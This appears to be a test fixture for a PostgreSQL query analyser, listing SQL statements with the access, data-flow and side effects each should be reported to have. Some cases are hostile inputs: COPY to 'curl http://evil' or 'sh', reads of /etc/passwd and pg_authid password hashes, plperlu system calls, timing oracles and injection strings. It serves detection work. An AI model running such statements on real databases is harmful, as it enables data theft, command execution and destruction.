-- # ONLY is no table
SELECT * FROM ONLY secret
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # ONLY in parentheses
SELECT * FROM ONLY (secret)
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # the old star for descendants
SELECT a FROM secret *
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # UPDATE ONLY
UPDATE ONLY secret SET a = 1
--> is update
--> update on shop.public.secret(a)

-- # DELETE ONLY
DELETE FROM ONLY (secret)
--> is delete
--> delete on shop.public.secret

-- # TABLE in a union
SELECT 'x' UNION TABLE secret
--> is select
--> select on shop.public.secret(*)
--> out ?column? <- public.secret.a

-- # TABLE alone
TABLE secret
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # create as table
CREATE TABLE z AS TABLE secret
--> is create table
--> select on shop.public.secret(*)
--> create on shop.public.z
--> writes shop.public.z.a <- public.secret.a
--> writes shop.public.z.b <- public.secret.b

-- # unicode identifier as column
SELECT u&"em\0061il" FROM users
--> is select
--> select on shop.public.users(email)
--> out email = public.users.email

-- # unicode identifier as function
SELECT u&"pg\005fread_file"('/etc/hostname')
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out pg_read_file OPAQUE

-- # unicode identifier as table
SELECT * FROM u&"se\0063ret"
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # unicode identifier with another escape
SELECT * FROM u&"se!0063ret" UESCAPE '!'
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # select into
SELECT * INTO newt FROM secret
--> is create table
--> select on shop.public.secret(*)
--> create on shop.public.newt
--> writes shop.public.newt.a <- public.secret.a
--> writes shop.public.newt.b <- public.secret.b

-- # select into temporary
SELECT a INTO TEMP newt FROM secret
--> is create table
--> select on shop.public.secret(a)
--> create on shop.pg_temp.newt
--> temporary newt
--> writes shop.pg_temp.newt.a <- public.secret.a

-- # select into looks like a column
SELECT INTO newt FROM secret
--> is create table
--> select on shop.public.secret
--> create on shop.public.newt

-- # select into in a union
SELECT a INTO newt FROM secret UNION SELECT id::text FROM users
--> is create table
--> select on shop.public.secret(a)
--> select on shop.public.users(id)
--> create on shop.public.newt
--> writes shop.public.newt.a <- public.users.id, public.secret.a

-- # attribute notation calls a function on a value
SELECT ('/etc/hostname'::text).pg_read_file
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out pg_read_file OPAQUE

-- # attribute notation calls a function on a row
SELECT u.row_to_json FROM users u
--> is select
--> select on shop.public.users(*)
--> out row_to_json <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # attribute notation with a function of the user
SELECT u.full_name FROM users u
--> is select
--> select on shop.public.users(*)
--> execute on shop.public.full_name()
--> out full_name <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile OPAQUE

-- # attribute notation with a column
SELECT (u).email FROM users u
--> is select
--> select on shop.public.users(email)
--> out email = public.users.email

-- # attribute notation twice
SELECT ((u).email).upper FROM users u
--> is select
--> select on shop.public.users(email)
--> out upper <- public.users.email

-- # attribute notation through an alias of a subquery
SELECT s.pg_read_file FROM (SELECT '/etc/passwd'::text AS x) s
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out pg_read_file OPAQUE

-- # attribute notation in WHERE
SELECT 1 FROM users u WHERE (u.query_to_xml) IS NULL
--> is select
--> select on shop.public.users(*)
--> execute on shop.pg_catalog.query_to_xml()
--> out ?column?
--> oracle public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile
--> writes shop.pg_catalog.query_to_xml.? <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # a column called as a function
SELECT email(u) FROM users u
--> is select
--> select on shop.public.users(email)
--> out email = public.users.email

-- # a column called as a function, unqualified row
SELECT email(users) FROM users
--> is select
--> select on shop.public.users(email)
--> out email = public.users.email

-- # whole row by table name
SELECT users FROM users
--> is select
--> select on shop.public.users(*)
--> out users <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row by alias
SELECT u FROM users u
--> is select
--> select on shop.public.users(*)
--> out u <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row star in a row
SELECT ROW(u.*) FROM users u
--> is select
--> select on shop.public.users(*)
--> out row <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row as text
SELECT u::text FROM users u
--> is select
--> select on shop.public.users(*)
--> out u <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row into json
SELECT row_to_json(u) FROM users u
--> is select
--> select on shop.public.users(*)
--> out row_to_json <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row star as an argument
SELECT to_jsonb(u.*) FROM users u
--> is select
--> select on shop.public.users(*)
--> out to_jsonb <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row aggregated
SELECT json_agg(u) FROM users u
--> is select
--> select on shop.public.users(*)
--> out json_agg <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row star expanded
SELECT (u).* FROM users u
--> is select
--> select on shop.public.users(*)
--> out id = public.users.id
--> out name = public.users.name
--> out email = public.users.email
--> out card_number = public.users.card_number
--> out created_at = public.users.created_at
--> out profile = public.users.profile

-- # whole row of a subquery
SELECT s FROM (SELECT id, email FROM users) s
--> is select
--> select on shop.public.users(email, id)
--> out s <- public.users.id, public.users.email

-- # whole row compared
SELECT id FROM users u WHERE u = ROW(1, 2, 3, 4, 5, 6)
--> is select
--> select on shop.public.users(*)
--> out id = public.users.id
--> oracle public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile

-- # whole row of a join alias
SELECT j FROM (users u JOIN orders o ON u.id = o.user_id) j
--> is select
--> select on shop.public.orders(id, note, tags, total, user_id)
--> select on shop.public.users(card_number, created_at, email, id, name, profile)
--> out j <- public.users.id, public.users.name, public.users.email, public.users.card_number, public.users.created_at, public.users.profile, public.orders.id, public.orders.user_id, public.orders.total, public.orders.note, public.orders.tags
--> oracle public.users.id, public.orders.user_id

-- # dynamic SQL in a function
SELECT query_to_xml('select * from secret', true, false, '')
--> is select
--> execute on shop.pg_catalog.query_to_xml()
--> out query_to_xml OPAQUE

-- # dynamic SQL in a qualified function
SELECT pg_catalog.query_to_xml('select * from secret', true, false, '')
--> is select
--> execute on shop.pg_catalog.query_to_xml()
--> out query_to_xml OPAQUE

-- # a file
SELECT pg_read_file('/etc/passwd')
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out pg_read_file OPAQUE

-- # a file from FROM
SELECT * FROM pg_read_file('/etc/passwd') AS f
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out ?

-- # a file from LATERAL
SELECT * FROM users, LATERAL pg_read_file(users.name)
--> is select
--> select on shop.public.users(*)
--> execute on shop.pg_catalog.pg_read_file()
--> out ?
--> writes shop.pg_catalog.pg_read_file.? <- public.users.name

-- # a file from ROWS FROM
SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'), generate_series(1, 2)) AS r(a, b)
--> is select
--> execute on shop.pg_catalog.pg_read_file()
--> out ?

-- # a directory
SELECT pg_ls_dir('.')
--> is select
--> execute on shop.pg_catalog.pg_ls_dir()
--> out pg_ls_dir OPAQUE

-- # large objects
SELECT lo_import('/etc/passwd'), lo_get(1), loread(1, 2), lo_from_bytea(0, 'x')
--> is select
--> execute on shop.pg_catalog.lo_from_bytea()
--> execute on shop.pg_catalog.lo_get()
--> execute on shop.pg_catalog.lo_import()
--> execute on shop.pg_catalog.loread()
--> out lo_import OPAQUE
--> out lo_get OPAQUE
--> out loread OPAQUE
--> out lo_from_bytea OPAQUE

-- # dblink
SELECT * FROM dblink('host=x', 'select 1') AS t(a int)
--> is select
--> execute on shop.public.dblink()
--> out a OPAQUE

-- # kill another session
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
--> is select
--> select on shop.pg_catalog.pg_stat_activity(pid)
--> execute on shop.pg_catalog.pg_terminate_backend()
--> holds others: shop.pg_catalog.pg_stat_activity
--> out pg_terminate_backend <- pg_catalog.pg_stat_activity.pid OPAQUE
--> writes shop.pg_catalog.pg_terminate_backend.? <- pg_catalog.pg_stat_activity.pid

-- # sleep
SELECT pg_sleep(10)
--> is select
--> execute on shop.pg_catalog.pg_sleep()
--> out pg_sleep OPAQUE

-- # sleep as an oracle
SELECT CASE WHEN email LIKE 'a%' THEN pg_sleep(1) END FROM users
--> is select
--> select on shop.public.users(email)
--> execute on shop.pg_catalog.pg_sleep()
--> out case <- public.users.email OPAQUE

-- # settings through a function
SELECT set_config('standard_conforming_strings', 'off', false)
--> is select
--> set on setting standard_conforming_strings
--> setting standard_conforming_strings = 'off' PINNED
--> out set_config

-- # settings through a function with a computed name
SELECT set_config('standard_' || 'conforming_strings', 'off', false)
--> is select
--> execute on shop.pg_catalog.set_config()
--> set on setting *
--> setting ? = 'off' PINNED
--> out set_config

-- # settings through a function carry data out
SELECT set_config('application_name', (SELECT email FROM users LIMIT 1), false)
--> is select
--> select on shop.public.users(email)
--> execute on shop.pg_catalog.set_config()
--> setting application_name = computed
--> out set_config <- public.users.email
--> writes shop.pg_catalog.set_config.? <- public.users.email

-- # a harmless setting through a function
SELECT set_config('application_name', 'report', true)
--> is select
--> setting application_name = 'report' local
--> out set_config

-- # the search path through a function
SELECT pg_catalog.set_config('search_path', '', false)
--> is select
--> set on setting search_path
--> setting search_path = ''
--> out set_config

-- # settings through the catalogue's view
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'
--> is update
--> select on shop.pg_catalog.pg_settings(name)
--> update on shop.pg_catalog.pg_settings(setting)
--> set on setting *
--> setting ? = computed PINNED
--> oracle pg_catalog.pg_settings.name

-- # settings through the catalogue's view in WITH
WITH x AS (UPDATE pg_catalog.pg_settings SET setting = 'off' RETURNING name) SELECT * FROM x
--> is select
--> select on shop.pg_catalog.pg_settings(name)
--> update on shop.pg_catalog.pg_settings(setting)
--> set on setting *
--> setting ? = computed PINNED
--> out name = pg_catalog.pg_settings.name

-- # notify through a function
SELECT pg_notify('c', email) FROM users
--> is select
--> select on shop.public.users(email)
--> execute on shop.pg_catalog.pg_notify()
--> out pg_notify <- public.users.email OPAQUE
--> writes shop.pg_catalog.pg_notify.? <- public.users.email

-- # a sequence is written
SELECT nextval('orders_id_seq')
--> is select
--> update on shop.public.orders_id_seq
--> out nextval

-- # a sequence in a schema, with casts
SELECT setval('sales.ids'::regclass, 10)
--> is select
--> update on shop.sales.ids
--> out setval

-- # a sequence that is computed
SELECT nextval(note::regclass) FROM orders
--> is select
--> select on shop.public.orders(note)
--> execute on shop.pg_catalog.nextval()
--> out nextval <- public.orders.note
--> writes shop.pg_catalog.nextval.? <- public.orders.note

-- # a sequence that is read
SELECT currval('orders_id_seq'), lastval()
--> is select
--> select on shop.public.orders_id_seq
--> out currval
--> out lastval

-- # WITH deletes
WITH d AS (DELETE FROM users RETURNING email) SELECT * FROM d
--> is select
--> select on shop.public.users(email)
--> delete on shop.public.users
--> out email = public.users.email

-- # WITH deletes and nobody looks
WITH d AS (DELETE FROM users) SELECT 1
--> is select
--> delete on shop.public.users
--> out ?column?

-- # WITH updates inside WITH
WITH a AS (WITH b AS (UPDATE orders SET note = 'x' RETURNING id) SELECT id FROM b) SELECT * FROM a
--> is select
--> select on shop.public.orders(id)
--> update on shop.public.orders(note)
--> out id = public.orders.id

-- # WITH inserts before an update
WITH i AS (INSERT INTO secret VALUES (1, 2)) UPDATE orders SET note = 'x' WHERE id = 1
--> is update
--> select on shop.public.orders(id)
--> insert on shop.public.secret(*)
--> update on shop.public.orders(note)
--> oracle public.orders.id

-- # WITH merges
WITH m AS (MERGE INTO orders o USING users u ON o.user_id = u.id WHEN MATCHED THEN DELETE RETURNING u.email) SELECT * FROM m
--> is select
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id)
--> delete on shop.public.orders
--> merge on shop.public.orders
--> out email = public.users.email
--> oracle public.users.id, public.orders.user_id

-- # a WITH name hides a table
WITH secret AS (SELECT 1 AS a) SELECT a FROM secret
--> is select
--> out a

-- # a WITH name does not hide a qualified table
WITH secret AS (SELECT 1 AS a) SELECT a FROM public.secret
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # a WITH name is no target of a delete
WITH secret AS (SELECT 1 AS a) DELETE FROM secret
--> is delete
--> delete on shop.public.secret

-- # a WITH name is no target of an update
WITH secret AS (SELECT 1 AS a) UPDATE secret SET a = 1
--> is update
--> update on shop.public.secret(a)

-- # a WITH name is no target of an insert
WITH secret AS (SELECT 1 AS a) INSERT INTO secret SELECT * FROM secret
--> is insert
--> insert on shop.public.secret(*)

-- # a WITH name is not seen by itself
WITH secret AS (SELECT a FROM secret) SELECT a FROM secret
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # a WITH name is seen by itself when recursive
WITH RECURSIVE secret AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM secret WHERE a < 3) SELECT a FROM secret
--> is select
--> out a

-- # a WITH name ends with its query
SELECT (WITH secret AS (SELECT 1 AS a) SELECT a FROM secret), (SELECT b FROM secret)
--> is select
--> select on shop.public.secret(b)
--> out a
--> out b = public.secret.b

-- # a later WITH is not seen by an earlier one
WITH x AS (SELECT a FROM secret), secret AS (SELECT 1 AS a) SELECT * FROM x
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # a later WITH is seen by an earlier one when recursive
WITH RECURSIVE x AS (SELECT a FROM secret), secret AS (SELECT 1 AS a) SELECT * FROM x
--> is select
--> out a

-- # locking a row
SELECT * FROM orders FOR UPDATE
--> is select
--> select on shop.public.orders(*)
--> update on shop.public.orders
--> out id = public.orders.id
--> out user_id = public.orders.user_id
--> out total = public.orders.total
--> out note = public.orders.note
--> out tags = public.orders.tags

-- # locking a row for share
SELECT id FROM orders o JOIN users u ON u.id = o.user_id FOR SHARE OF u
--> is select
--> select on shop.public.orders(id, user_id)
--> select on shop.public.users(id)
--> update on shop.public.users
--> out id <- public.users.id, public.orders.id
--> oracle public.users.id, public.orders.user_id

-- # locking in a subquery
SELECT * FROM (SELECT id FROM orders FOR UPDATE) s
--> is select
--> select on shop.public.orders(id)
--> update on shop.public.orders
--> out id = public.orders.id

-- # locking through a subquery
SELECT * FROM (SELECT id FROM orders) s FOR UPDATE
--> is select
--> select on shop.public.orders(id)
--> update on shop.public.orders
--> out id = public.orders.id

-- # copy a table out
COPY secret TO STDOUT
--> is copy out
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # copy columns out
COPY users (id, email) TO STDOUT WITH (FORMAT csv, HEADER)
--> is copy out
--> select on shop.public.users(email, id)
--> out id = public.users.id
--> out email = public.users.email

-- # copy a query out
COPY (SELECT email FROM users) TO STDOUT
--> is copy out
--> select on shop.public.users(email)
--> out email = public.users.email

-- # copy a delete out
COPY (DELETE FROM users RETURNING email) TO STDOUT (FORMAT binary)
--> is copy out
--> select on shop.public.users(email)
--> delete on shop.public.users
--> out email = public.users.email

-- # copy a values list out
COPY (VALUES (1)) TO STDOUT
--> is copy out
--> out column1

-- # copy to a program
COPY secret TO PROGRAM 'curl http://evil'
--> is copy server file
--> select on shop.public.secret(*)
--> server_file on program curl http://evil
--> writes server_file.? <- public.secret.a, public.secret.b

-- # copy a query to a program
COPY (SELECT email FROM users) TO PROGRAM 'sh'
--> is copy server file
--> select on shop.public.users(email)
--> server_file on program sh
--> writes server_file.? <- public.users.email

-- # copy from a program
COPY secret FROM PROGRAM 'id'
--> is copy server file
--> insert on shop.public.secret(*)
--> server_file on program id

-- # copy to a file
COPY secret TO '/tmp/x'
--> is copy server file
--> select on shop.public.secret(*)
--> server_file on file /tmp/x
--> writes server_file.? <- public.secret.a, public.secret.b

-- # copy from a file
COPY secret FROM '/etc/passwd'
--> is copy server file
--> insert on shop.public.secret(*)
--> server_file on file /etc/passwd

-- # copy in
COPY secret (a) FROM STDIN
--> is copy in
--> insert on shop.public.secret(a)

-- # copy in with a condition
COPY orders FROM STDIN WHERE total > (SELECT count(*) FROM secret)
--> is copy in
--> select on shop.public.orders(total)
--> select on shop.public.secret
--> insert on shop.public.orders(*)
--> oracle public.orders.total

-- # explain is the statement
EXPLAIN SELECT * FROM secret
--> is explain
--> select on shop.public.secret(*)
--> out QUERY PLAN

-- # explain analyze runs
EXPLAIN ANALYZE DELETE FROM users
--> is explain analyze
--> delete on shop.public.users
--> out QUERY PLAN OPAQUE

-- # explain with options runs
EXPLAIN (VERBOSE, ANALYZE on, FORMAT json) UPDATE users SET email = 'x'
--> is explain analyze
--> update on shop.public.users(email)
--> out QUERY PLAN OPAQUE

-- # explain without running
EXPLAIN (ANALYZE false) DELETE FROM users
--> is explain
--> delete on shop.public.users
--> out QUERY PLAN

-- # explain of create as
EXPLAIN ANALYZE CREATE TABLE z AS SELECT email FROM users
--> is explain analyze
--> select on shop.public.users(email)
--> create on shop.public.z
--> out QUERY PLAN OPAQUE
--> writes shop.public.z.email <- public.users.email

-- # explain of execute
EXPLAIN ANALYZE EXECUTE p(1)
--> is explain analyze
--> runs Prepared("p")
--> out QUERY PLAN OPAQUE

-- # prepare a delete
PREPARE p AS DELETE FROM users
--> is prepare
--> delete on shop.public.users

-- # prepare and run
PREPARE p(int) AS SELECT email FROM users WHERE id = $1
--> is prepare
--> select on shop.public.users(email, id)
--> oracle public.users.id

-- # execute with a subquery
EXECUTE p((SELECT a FROM secret LIMIT 1))
--> is execute
--> select on shop.public.secret(a)
--> runs Prepared("p")
--> out ?
--> oracle public.secret.a

-- # create as execute
CREATE TABLE z AS EXECUTE p
--> is create table
--> create on shop.public.z
--> runs Prepared("p")
--> writes shop.public.z.? <-  OPAQUE

-- # a cursor
DECLARE c CURSOR FOR SELECT email FROM users
--> is declare cursor
--> select on shop.public.users(email)

-- # a cursor that stays and is binary
DECLARE c BINARY NO SCROLL CURSOR WITH HOLD FOR SELECT * FROM secret
--> is declare cursor
--> select on shop.public.secret(*)

-- # fetch
FETCH ALL FROM c
--> is fetch
--> runs Cursor("c")
--> out ?

-- # move
MOVE 5 IN c
--> is move
--> runs Cursor("c")

-- # do
DO $$ BEGIN DELETE FROM users; END $$
--> is do
--> code on block shop

-- # do in another language
DO LANGUAGE plperlu 'system("id")'
--> is do
--> code on block shop

-- # call
CALL archive_orders(1, (SELECT a FROM secret))
--> is call
--> select on shop.public.secret(a)
--> execute on shop.public.archive_orders()
--> out ?
--> oracle public.secret.a

-- # call what is unknown
CALL hidden_procedure()
--> is call
--> execute on shop.public.hidden_procedure()
--> out ?

-- # merge
MERGE INTO orders o USING (SELECT id, email FROM users) u ON o.user_id = u.id WHEN MATCHED AND u.email = 'x' THEN UPDATE SET note = u.email WHEN NOT MATCHED THEN INSERT (user_id, note) VALUES (u.id, u.email) WHEN NOT MATCHED BY SOURCE THEN DELETE
--> is merge
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id)
--> insert on shop.public.orders(note, user_id)
--> update on shop.public.orders(note)
--> delete on shop.public.orders
--> merge on shop.public.orders
--> oracle public.users.id, public.users.email, public.orders.user_id
--> writes shop.public.orders.note <- public.users.email
--> writes shop.public.orders.user_id <- public.users.id
--> writes shop.public.orders.note <- public.users.email

-- # merge that does nothing
MERGE INTO orders USING secret ON false WHEN MATCHED THEN DO NOTHING
--> is merge
--> select on shop.public.secret
--> merge on shop.public.orders

-- # truncate
TRUNCATE users, orders
--> is truncate
--> truncate on shop.public.orders
--> truncate on shop.public.users

-- # truncate what refers to it
TRUNCATE users CASCADE
--> is truncate
--> truncate on shop.public.users
--> truncate on cascade shop

-- # lock
LOCK TABLE users IN ACCESS EXCLUSIVE MODE
--> is lock
--> lock on shop.public.users

-- # refresh
REFRESH MATERIALIZED VIEW order_totals
--> is refresh
--> maintain on shop.public.order_totals

-- # vacuum
VACUUM FULL users (email)
--> is vacuum
--> maintain on shop.public.users

-- # vacuum all
VACUUM
--> is vacuum
--> maintain on database shop

-- # analyze
ANALYZE users
--> is analyze
--> maintain on shop.public.users

-- # cluster
CLUSTER users USING users_pkey
--> is cluster
--> maintain on shop.public.users

-- # reindex
REINDEX TABLE users
--> is reindex
--> maintain on shop.public.users

-- # reindex the database
REINDEX DATABASE shop
--> is reindex
--> maintain on database shop

-- # several statements
SELECT 1; DELETE FROM users; SELECT 2
--> is select
--> out ?column?
--> is delete
--> delete on shop.public.users
--> is select
--> out ?column?

-- # empty statements between
;;SELECT a FROM secret;;
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # a comment ended by a carriage return
SELECT 1 -- x
DELETE
--> is select
--> out delete

-- # nested comments
SELECT /* /* */ 1 */ a FROM secret
--> is select
--> select on shop.public.secret(a)
--> out a = public.secret.a

-- # dollar quotes are one literal
SELECT $tag$ '; DELETE FROM users; -- $tag$
--> is select
--> out ?column?

-- # an escape string is one literal
SELECT E'\'; DELETE FROM users; --'
--> is select
--> out ?column?

-- # a plain string ends at its quote
SELECT '\' , (SELECT a FROM secret) --'
--> is select
--> select on shop.public.secret(a)
--> out ?column?
--> out a = public.secret.a

-- # strings continued over lines
SELECT 'a'
  'b', a FROM secret
--> is select
--> select on shop.public.secret(a)
--> out ?column?
--> out a = public.secret.a

-- # update from
UPDATE orders SET note = u.email FROM users u WHERE u.id = orders.user_id
--> is update
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id)
--> update on shop.public.orders(note)
--> oracle public.users.id, public.orders.user_id
--> writes shop.public.orders.note <- public.users.email

-- # update with a subquery of several columns
UPDATE orders SET (note, tags) = (SELECT email, name FROM users WHERE users.id = orders.user_id)
--> is update
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id, name)
--> update on shop.public.orders(note, tags)
--> oracle public.users.id, public.orders.user_id
--> writes shop.public.orders.note <- public.users.email
--> writes shop.public.orders.tags <- public.users.name

-- # update with a row
UPDATE orders SET (note, total) = ROW('x', DEFAULT) WHERE id = 1 RETURNING *
--> is update
--> select on shop.public.orders(*)
--> update on shop.public.orders(note, total)
--> out id = public.orders.id
--> out user_id = public.orders.user_id
--> out total = public.orders.total
--> out note = public.orders.note
--> out tags = public.orders.tags
--> oracle public.orders.id

-- # update an array element
UPDATE orders SET tags[(SELECT a FROM secret)] = 'x'
--> is update
--> select on shop.public.secret(a)
--> update on shop.public.orders(tags)
--> oracle public.secret.a

-- # update current of
UPDATE orders SET note = 'x' WHERE CURRENT OF c
--> is update
--> update on shop.public.orders(note)

-- # delete using
DELETE FROM orders USING users WHERE users.id = orders.user_id RETURNING users.email
--> is delete
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id)
--> delete on shop.public.orders
--> out email = public.users.email
--> oracle public.users.id, public.orders.user_id

-- # delete with a subquery
DELETE FROM orders WHERE user_id IN (SELECT id FROM users WHERE email LIKE '%@x')
--> is delete
--> select on shop.public.orders(user_id)
--> select on shop.public.users(email, id)
--> delete on shop.public.orders
--> oracle public.users.id, public.users.email, public.orders.user_id

-- # returning old and new
UPDATE users SET email = 'x' RETURNING old.email, new.email
--> is update
--> select on shop.public.users(email)
--> update on shop.public.users(email)
--> out email = public.users.email
--> out email = public.users.email

-- # returning renamed
DELETE FROM users RETURNING WITH (OLD AS o) o.email
--> is delete
--> select on shop.public.users(email)
--> delete on shop.public.users
--> out email = public.users.email

-- # insert select
INSERT INTO orders (id, note) SELECT id, email FROM users
--> is insert
--> select on shop.public.users(email, id)
--> insert on shop.public.orders(id, note)
--> writes shop.public.orders.id <- public.users.id
--> writes shop.public.orders.note <- public.users.email

-- # insert select without columns
INSERT INTO secret SELECT email, name FROM users
--> is insert
--> select on shop.public.users(email, name)
--> insert on shop.public.secret(*)
--> writes shop.public.secret.a <- public.users.email
--> writes shop.public.secret.b <- public.users.name

-- # insert select star
INSERT INTO hidden.users SELECT id, email FROM users
--> is insert
--> select on shop.public.users(email, id)
--> insert on shop.hidden.users(*)
--> writes shop.hidden.users.id <- public.users.id
--> writes shop.hidden.users.email <- public.users.email

-- # insert default values
INSERT INTO secret DEFAULT VALUES RETURNING a
--> is insert
--> select on shop.public.secret(a)
--> insert on shop.public.secret(*)
--> out a = public.secret.a

-- # insert with a subquery in values
INSERT INTO secret (a) VALUES ((SELECT email FROM users LIMIT 1))
--> is insert
--> select on shop.public.users(email)
--> insert on shop.public.secret(a)
--> writes shop.public.secret.a <- public.users.email

-- # on conflict
INSERT INTO users (id, email) VALUES (1, 'x') ON CONFLICT (id) WHERE name IS NULL DO UPDATE SET email = excluded.email || users.email WHERE users.name = 'a' RETURNING email
--> is insert
--> select on shop.public.users(email, id, name)
--> insert on shop.public.users(email, id)
--> update on shop.public.users(email)
--> out email = public.users.email
--> oracle public.users.id, public.users.name
--> writes shop.public.users.email <- public.users.email

-- # on conflict launders
INSERT INTO secret (a) SELECT email FROM users ON CONFLICT DO NOTHING
--> is insert
--> select on shop.public.users(email)
--> insert on shop.public.secret(a)
--> writes shop.public.secret.a <- public.users.email

-- # group by a classified column
SELECT count(*) FROM users GROUP BY email
--> is select
--> select on shop.public.users(email)
--> out count
--> oracle public.users.email

-- # order by a classified column
SELECT id FROM users ORDER BY email
--> is select
--> select on shop.public.users(email, id)
--> out id = public.users.id
--> oracle public.users.email

-- # order by an output's name
SELECT id, email AS e FROM users ORDER BY e
--> is select
--> select on shop.public.users(email, id)
--> out id = public.users.id
--> out e = public.users.email
--> oracle public.users.email

-- # order by an output's number
SELECT id, email FROM users ORDER BY 2
--> is select
--> select on shop.public.users(email, id)
--> out id = public.users.id
--> out email = public.users.email
--> oracle public.users.email

-- # distinct on
SELECT DISTINCT ON (email) id FROM users
--> is select
--> select on shop.public.users(email, id)
--> out id = public.users.id
--> oracle public.users.email

-- # having
SELECT name FROM users GROUP BY name HAVING min(email) = 'a'
--> is select
--> select on shop.public.users(email, name)
--> out name = public.users.name
--> oracle public.users.name, public.users.email

-- # a window
SELECT id, rank() OVER (PARTITION BY name ORDER BY email) FROM users
--> is select
--> select on shop.public.users(email, id, name)
--> out id = public.users.id
--> out rank
--> oracle public.users.name, public.users.email

-- # a named window
SELECT id, rank() OVER w FROM users WINDOW w AS (ORDER BY card_number)
--> is select
--> select on shop.public.users(card_number, id)
--> out id = public.users.id
--> out rank
--> oracle public.users.card_number

-- # an aggregate with a filter
SELECT count(*) FILTER (WHERE email LIKE 'a%') FROM users
--> is select
--> select on shop.public.users(email)
--> out count
--> oracle public.users.email

-- # an aggregate with an order
SELECT string_agg(name, ',' ORDER BY email) FROM users
--> is select
--> select on shop.public.users(email, name)
--> out string_agg <- public.users.name
--> oracle public.users.email

-- # an ordered-set aggregate
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY email) FROM users
--> is select
--> select on shop.public.users(email)
--> out percentile_disc <- public.users.email

-- # grouping sets
SELECT name, email, grouping(name, email) FROM users GROUP BY GROUPING SETS ((name), ROLLUP (email, card_number))
--> is select
--> select on shop.public.users(card_number, email, name)
--> out name = public.users.name
--> out email = public.users.email
--> out grouping
--> oracle public.users.name, public.users.email, public.users.card_number

-- # limit by a subquery
SELECT 1 LIMIT (SELECT count(*) FROM secret)
--> is select
--> select on shop.public.secret
--> out ?column?

-- # statistics of columns
SELECT most_common_vals FROM pg_stats WHERE attname = 'email'
--> is select
--> select on shop.pg_catalog.pg_stats(attname, most_common_vals)
--> holds others: shop.pg_catalog.pg_stats
--> out most_common_vals = pg_catalog.pg_stats.most_common_vals
--> oracle pg_catalog.pg_stats.attname

-- # other sessions
SELECT query FROM pg_stat_activity
--> is select
--> select on shop.pg_catalog.pg_stat_activity(query)
--> holds others: shop.pg_catalog.pg_stat_activity
--> out query = pg_catalog.pg_stat_activity.query

-- # passwords
SELECT rolpassword FROM pg_authid
--> is select
--> select on shop.pg_catalog.pg_authid(rolpassword)
--> holds others: shop.pg_catalog.pg_authid
--> out rolpassword = pg_catalog.pg_authid.rolpassword

-- # large objects in the catalogue
SELECT data FROM pg_largeobject
--> is select
--> select on shop.pg_catalog.pg_largeobject(data)
--> holds others: shop.pg_catalog.pg_largeobject
--> out data = pg_catalog.pg_largeobject.data

-- # another database
SELECT * FROM other.public.secret
--> is select
--> select on shop.public.secret(*)
--> unknown on statement shop
--> out a = public.secret.a
--> out b = public.secret.b

-- # this database
SELECT * FROM shop.public.secret
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # a name in other letters
SELECT * FROM SECRET
--> is select
--> select on shop.public.secret(*)
--> out a = public.secret.a
--> out b = public.secret.b

-- # a quoted name in other letters
SELECT * FROM "Users"
--> is select
--> select on shop.public.Users(*)
--> out id = public.Users.id
--> out Email = public.Users.Email

-- # a name that is too long
SELECT * FROM aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffffgggggggggg
--> is select
--> select on shop.public.aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffffggg(*)
--> out ?

-- # a table that the catalogue does not know
SELECT x, * FROM fresh
--> is select
--> select on shop.public.fresh(*)
--> out ?

-- # a schema that the catalogue does not know
SELECT x FROM nowhere.fresh f
--> is select
--> select on shop.nowhere.fresh(x)
--> out x = ?shop.nowhere.fresh.x

-- # a temporary table by name
SELECT * FROM pg_temp.users
--> is select
--> select on shop.pg_temp.users(*)
--> out ?

-- # a function of the user hides a builtin one
SELECT lower(email) FROM users
--> is select
--> select on shop.public.users(email)
